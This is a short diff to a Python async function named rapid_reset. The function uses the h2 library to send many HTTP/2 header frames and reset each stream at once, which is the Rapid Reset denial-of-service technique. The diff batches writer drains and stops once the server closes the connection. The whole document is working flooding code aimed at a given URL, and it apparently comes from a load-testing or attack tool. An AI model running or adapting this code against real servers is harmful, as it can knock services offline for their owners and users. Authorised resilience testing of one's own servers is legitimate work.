@@ -63,12 +63,15 @@ async def rapid_reset(url: str, streams: int, path: str = "/getServerTime.json")
     authority = urlsplit(url).netloc
     head = [(":method", "GET"), (":path", path), (":scheme", "https"), (":authority", authority)]
     try:
-        for _ in range(streams):
+        for sent in range(streams):
             stream_id = conn.get_next_available_stream_id()
             conn.send_headers(stream_id, head, end_stream=True)
             conn.reset_stream(stream_id)
             writer.write(conn.data_to_send())
-        await writer.drain()
+            if sent % 100 == 99:
+                await writer.drain()
+                if writer.is_closing() or reader.at_eof():
+                    break  # the server sent GOAWAY and closed
         while await asyncio.wait_for(reader.read(65536), 5):
             pass
     except (OSError, ssl.SSLError, TimeoutError, h2.exceptions.ProtocolError):
